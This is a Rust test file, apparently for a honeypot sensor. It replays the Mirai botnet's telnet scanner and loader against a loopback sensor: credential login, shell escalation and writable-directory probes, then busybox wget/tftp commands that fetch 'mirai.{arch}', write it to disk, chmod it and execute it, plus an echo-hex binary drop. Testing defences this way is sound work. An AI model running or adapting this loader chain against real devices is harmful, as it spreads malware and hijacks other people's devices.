//! A test client that follows Mirai's scanner login state machine
//! (`reference/mirai-behaviour.md` §1.4-§1.5) with the bot's own parse rules. It only
//! ever talks to our own sensor on loopback.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::find;

/// How a scanner attempt ended.
#[derive(Debug, PartialEq, Eq)]
pub enum Outcome {
    /// `MIRAI: applet not found` seen: the bot would report this device.
    Success,
    /// `ncorrect` seen at the token step.
    LoginIncorrect,
    /// The server closed the connection.
    Closed,
    /// Nothing matched within the bot's 30 s (shortened here).
    Timeout,
}

/// Everything the scanner received, and how it ended.
pub struct Attempt {
    pub outcome: Outcome,
    pub transcript: Vec<u8>,
}

/// `consume_iacs()`: answers every leading 3-byte IAC command; returns bytes consumed.
fn consume_iacs(buf: &[u8], out: &mut Vec<Vec<u8>>) -> usize {
    let mut i = 0;
    while i < buf.len() && buf[i] == 0xff {
        if i + 1 < buf.len() && buf[i + 1] == 0xff {
            i += 2;
            continue;
        }
        if i + 2 >= buf.len() {
            break;
        }
        let (cmd, opt) = (buf[i + 1], buf[i + 2]);
        match (cmd, opt) {
            (0xfd, 0x1f) => {
                out.push(vec![0xff, 0xfb, 0x1f]);
                out.push(vec![0xff, 0xfa, 0x1f, 0x00, 0x50, 0x00, 0x18, 0xff, 0xf0]);
            }
            (0xfd, o) => out.push(vec![0xff, 0xfc, o]),
            (0xfb, o) => out.push(vec![0xff, 0xfd, o]),
            (c, o) => out.push(vec![0xff, c, o]),
        }
        i += 3;
    }
    i
}

/// Index just past the last prompt character (index 0 excluded), as the bot searches.
fn prompt_index(buf: &[u8], chars: &[u8]) -> Option<usize> {
    (1..buf.len())
        .rev()
        .find(|&i| chars.contains(&buf[i]))
        .map(|i| i + 1)
}

struct Conn {
    stream: TcpStream,
    buf: Vec<u8>,
    transcript: Vec<u8>,
    deadline: Instant,
}

impl Conn {
    /// Reads more; false on close or timeout.
    fn fill(&mut self) -> Result<(), Outcome> {
        let left = self.deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Err(Outcome::Timeout);
        }
        self.stream.set_read_timeout(Some(left)).unwrap();
        let mut tmp = [0u8; 65536];
        match self.stream.read(&mut tmp) {
            Ok(0) => Err(Outcome::Closed),
            Ok(n) => {
                self.buf.extend_from_slice(&tmp[..n]);
                self.transcript.extend_from_slice(&tmp[..n]);
                Ok(())
            }
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock
                        | std::io::ErrorKind::TimedOut
                        | std::io::ErrorKind::Interrupted
                ) =>
            {
                Err(Outcome::Timeout)
            }
            Err(_) => Err(Outcome::Closed),
        }
    }

    fn send(&mut self, parts: &[&[u8]]) -> Result<(), Outcome> {
        for p in parts {
            self.stream.write_all(p).map_err(|_| Outcome::Closed)?;
        }
        Ok(())
    }

    /// Waits until `find` matches in the buffer, then drops the buffer up to its index.
    fn wait(&mut self, find: impl Fn(&[u8]) -> Option<usize>) -> Result<(), Outcome> {
        loop {
            if let Some(i) = find(&self.buf) {
                self.buf.drain(..i.min(self.buf.len()));
                return Ok(());
            }
            self.fill()?;
        }
    }
}

/// Runs one scanner attempt with `user`/`pass` over an already connected stream.
pub fn scanner(stream: TcpStream, user: &str, pass: &str, step_timeout: Duration) -> Attempt {
    let mut c = Conn {
        stream,
        buf: Vec::new(),
        transcript: Vec::new(),
        deadline: Instant::now() + step_timeout,
    };
    let outcome = run(&mut c, user.as_bytes(), pass.as_bytes(), step_timeout)
        .err()
        .unwrap_or(Outcome::Success);
    Attempt {
        outcome,
        transcript: c.transcript,
    }
}

fn run(c: &mut Conn, user: &[u8], pass: &[u8], step: Duration) -> Result<(), Outcome> {
    // SC_HANDLE_IACS: the buffer must start with IAC.
    loop {
        if c.buf.first() == Some(&0xff) {
            let mut replies = Vec::new();
            let n = consume_iacs(&c.buf, &mut replies);
            if n > 0 {
                c.buf.drain(..n);
                for r in replies {
                    c.send(&[&r])?;
                }
                break;
            }
        }
        c.fill()?;
    }
    c.deadline = Instant::now() + step;
    // SC_WAITING_USERNAME
    c.wait(|b| {
        prompt_index(b, b":>$#%").or_else(|| find(b, b"ogin").or_else(|| find(b, b"enter")))
    })?;
    c.send(&[user, b"\r\n"])?;
    c.deadline = Instant::now() + step;
    // SC_WAITING_PASSWORD
    c.wait(|b| prompt_index(b, b":>$#").or_else(|| find(b, b"assword")))?;
    c.send(&[pass, b"\r\n"])?;
    for word in [
        &b"enable"[..],
        b"system",
        b"shell",
        b"sh",
        b"/bin/busybox MIRAI",
    ] {
        c.deadline = Instant::now() + step;
        c.wait(|b| prompt_index(b, b":>$#%"))?;
        c.send(&[word, b"\r\n"])?;
    }
    // SC_WAITING_TOKEN_RESP: `ncorrect` first, then the token.
    c.deadline = Instant::now() + step;
    loop {
        if find(&c.buf, b"ncorrect").is_some() {
            return Err(Outcome::LoginIncorrect);
        }
        if find(&c.buf, b"MIRAI: applet not found").is_some() {
            return Ok(());
        }
        c.fill()?;
    }
}

/// How Mirai's loader put its binary on the device.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Method {
    /// `wget … -O - > dvrHelper`
    Wget,
    /// `tftp -g -l dvrHelper -r mirai.ARCH`
    Tftp,
    /// `echo -ne '\xHH…' > upnp` in 128-byte lines
    Echo,
}

/// What the loader saw and did.
#[derive(Debug)]
pub struct LoaderRun {
    /// Architecture from `cat /bin/echo` (and `/proc/cpuinfo` for ARM).
    pub arch: String,
    /// The first writable directory (`kami` probe).
    pub dir: String,
    /// Upload methods tried, in order.
    pub methods: Vec<Method>,
    /// Whether `listening tun0` came before `IHCCE: applet not found`.
    pub listening: bool,
    /// Everything received.
    pub transcript: Vec<u8>,
}

const TOKEN: &[u8] = b"ECCHI: applet not found";

impl Conn {
    /// Waits for `needle`; returns what came before it and drops it from the buffer.
    fn until(&mut self, needle: &[u8]) -> Result<Vec<u8>, Outcome> {
        // Scan only what is new (the binary from `cat /bin/echo` is megabytes).
        let mut scanned = 0;
        loop {
            if let Some(i) = find(&self.buf[scanned..], needle) {
                let i = scanned + i;
                let before = self.buf[..i].to_vec();
                self.buf.drain(..i + needle.len());
                return Ok(before);
            }
            scanned = self.buf.len().saturating_sub(needle.len());
            self.fill()?;
        }
    }

    fn cmd(&mut self, line: &str) -> Result<Vec<u8>, Outcome> {
        self.deadline = Instant::now() + Duration::from_secs(20);
        self.send(&[line.as_bytes(), b"\r\n"])?;
        self.until(TOKEN)
    }
}

/// The loader's arch from an ELF header found anywhere in `buf` (§3.5).
fn arch_from_elf(buf: &[u8]) -> Option<&'static str> {
    let i = find(buf, b"ELF")?.checked_sub(1)?;
    let elf = buf.get(i..i + 20)?;
    let machine = if elf[5] == 1 {
        u16::from_le_bytes([elf[18], elf[19]])
    } else {
        u16::from_be_bytes([elf[18], elf[19]])
    };
    Some(match machine {
        40 | 183 => "arm",
        8 | 10 if elf[5] == 1 => "mpsl",
        8 | 10 => "mips",
        3 | 6 | 7 | 62 => "x86",
        2 | 18 | 43 => "spc",
        4 | 5 => "m68k",
        20 | 21 => "ppc",
        42 => "sh4",
        _ => return None,
    })
}

/// Runs Mirai's loader (reference §3.2-§3.5) against our sensor; `binary` is what it
/// would drop with the echo method.
pub fn loader(
    stream: TcpStream,
    user: &str,
    pass: &str,
    binary: &[u8],
) -> Result<LoaderRun, (Outcome, Vec<u8>)> {
    let mut c = Conn {
        stream,
        buf: Vec::new(),
        transcript: Vec::new(),
        deadline: Instant::now() + Duration::from_secs(30),
    };
    match run_loader(&mut c, user, pass, binary) {
        Ok(mut r) => {
            r.transcript = std::mem::take(&mut c.transcript);
            Ok(r)
        }
        Err(o) => Err((o, c.transcript)),
    }
}

fn run_loader(c: &mut Conn, user: &str, pass: &str, binary: &[u8]) -> Result<LoaderRun, Outcome> {
    loop {
        if c.buf.first() == Some(&0xff) {
            let mut replies = Vec::new();
            let n = consume_iacs(&c.buf, &mut replies);
            if n > 0 {
                c.buf.drain(..n);
                for r in replies {
                    c.send(&[&r])?;
                }
                break;
            }
        }
        c.fill()?;
    }
    c.wait(|b| {
        prompt_index(b, b":>$#%").or_else(|| find(b, b"ogin").or_else(|| find(b, b"enter")))
    })?;
    c.send(&[user.as_bytes(), b"\r\n"])?;
    c.wait(|b| prompt_index(b, b":>$#%").or_else(|| find(b, b"assword")))?;
    c.send(&[pass.as_bytes(), b"\r\n"])?;
    c.wait(|b| prompt_index(b, b":>$#%"))?;
    c.send(&[b"enable\r\nshell\r\nsh\r\n"])?;
    c.wait(|b| prompt_index(b, b":>$#%"))?;
    c.cmd("/bin/busybox ECCHI")?;
    // ps: kill a second init or all-digit names (none expected on our devices).
    let ps = c.cmd("/bin/busybox ps; /bin/busybox ECCHI")?;
    for line in ps.split(|&b| b == b'\n') {
        let cols: Vec<&[u8]> = line
            .split(|b| b.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .collect();
        let Some(pid) = cols
            .first()
            .and_then(|p| std::str::from_utf8(p).ok()?.parse::<u32>().ok())
        else {
            continue;
        };
        let name = cols
            .get(4)
            .or(cols.get(3))
            .or(cols.get(2))
            .copied()
            .unwrap_or_default();
        let second_init = pid != 1 && (name == b"init" || name == b"[init]");
        let digits = pid > 400
            && name.iter().any(u8::is_ascii_digit)
            && !name.iter().any(u8::is_ascii_alphabetic);
        assert!(
            !second_init && !digits,
            "the loader would kill {pid}: {}",
            String::from_utf8_lossy(line)
        );
    }
    // mounts -> writable-directory probes, all in one burst.
    let mounts = c.cmd("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")?;
    let mut burst = Vec::new();
    let probe = |p: &str| {
        format!("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69{p}' > {p}/.nippon; /bin/busybox cat {p}/.nippon; /bin/busybox rm {p}/.nippon\r\n")
    };
    for line in String::from_utf8_lossy(&mounts).lines() {
        assert!(line.len() <= 255);
        let f: Vec<&str> = line.split_whitespace().collect();
        if f.len() < 4 || !f[3].contains("rw") {
            continue;
        }
        burst.extend_from_slice(probe(f[1].trim_end_matches('/')).as_bytes());
    }
    burst.extend_from_slice(probe("/dev").as_bytes());
    burst.extend_from_slice(b"/bin/busybox ECCHI\r\n");
    c.deadline = Instant::now() + Duration::from_secs(20);
    c.send(&[&burst])?;
    let probes = c.until(TOKEN)?;
    let mut dirs = Vec::new();
    let mut rest = &probes[..];
    while let Some(i) = find(rest, b"kami") {
        let after = &rest[i + 4..];
        let end = after
            .iter()
            .position(|&b| b == b'\n')
            .unwrap_or(after.len());
        let dir = String::from_utf8_lossy(&after[..end])
            .trim_end_matches('\r')
            .to_string();
        dirs.push(dir);
        rest = &after[end..];
    }
    let dir = dirs.first().cloned().ok_or(Outcome::Closed)?;
    assert!(dir.len() < 31);
    for d in &dirs {
        c.send(&[format!("rm {d}/.t; rm {d}/.sh; rm {d}/.human\r\n").as_bytes()])?;
    }
    c.send(&[format!("cd {dir}/\r\n").as_bytes()])?;
    c.cmd("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI")?;
    // Architecture: the ELF header of /bin/echo, token in a separate write.
    c.deadline = Instant::now() + Duration::from_secs(20);
    c.send(&[b"/bin/busybox cat /bin/echo\r\n"])?;
    c.send(&[b"/bin/busybox ECCHI\r\n"])?;
    let echo = c.until(TOKEN)?;
    let mut arch = arch_from_elf(&echo).ok_or(Outcome::Closed)?.to_string();
    if arch == "arm" {
        let cpu = c.cmd("cat /proc/cpuinfo; /bin/busybox ECCHI")?;
        if find(&cpu, b"ARMv7").is_some() || find(&cpu, b"ARMv6").is_some() {
            arch = "arm7".into();
        }
    }
    let mut methods = Vec::new();
    let mut retried_arm = false;
    let listening = loop {
        let probe = c.cmd("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI")?;
        let mut method = if find(&probe, b"wget: applet not found").is_none() {
            Method::Wget
        } else if find(&probe, b"tftp: applet not found").is_none() {
            Method::Tftp
        } else {
            Method::Echo
        };
        if method == Method::Wget {
            methods.push(Method::Wget);
            c.cmd(&format!("/bin/busybox wget http://127.0.0.1:80/bins/mirai.{arch} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"))?;
        }
        if method == Method::Tftp {
            methods.push(Method::Tftp);
            let out = c.cmd(&format!("/bin/busybox tftp -g -l dvrHelper -r mirai.{arch} 127.0.0.1; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"))?;
            if [&b"Permission denied"[..], b"timeout", b"illegal option"]
                .iter()
                .any(|n| find(&out, n).is_some())
            {
                method = Method::Echo;
            }
        }
        let run = if method == Method::Echo {
            methods.push(Method::Echo);
            c.cmd("/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI")?;
            for (i, chunk) in binary.chunks(128).enumerate() {
                let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
                let redir = if i == 0 { ">" } else { ">>" };
                c.cmd(&format!(
                    "echo -ne '{hex}' {redir} upnp; /bin/busybox ECCHI"
                ))?;
            }
            format!("./upnp; ./dvrHelper telnet.{arch}; /bin/busybox IHCCE")
        } else {
            format!("./dvrHelper telnet.{arch}; /bin/busybox IHCCE")
        };
        c.deadline = Instant::now() + Duration::from_secs(20);
        c.send(&[run.as_bytes(), b"\r\n"])?;
        let out = c.until(b"IHCCE: applet not found")?;
        let ok = find(&out, b"listening tun0").is_some();
        if !ok && (arch == "arm" || arch == "arm7") && !retried_arm {
            retried_arm = true;
            arch = if arch == "arm" {
                "arm7".into()
            } else {
                "arm".into()
            };
            continue;
        }
        break ok;
    };
    c.cmd("rm -rf upnp; > dvrHelper; /bin/busybox ECCHI")?;
    Ok(LoaderRun {
        arch,
        dir,
        methods,
        listening,
        transcript: Vec::new(),
    })
}
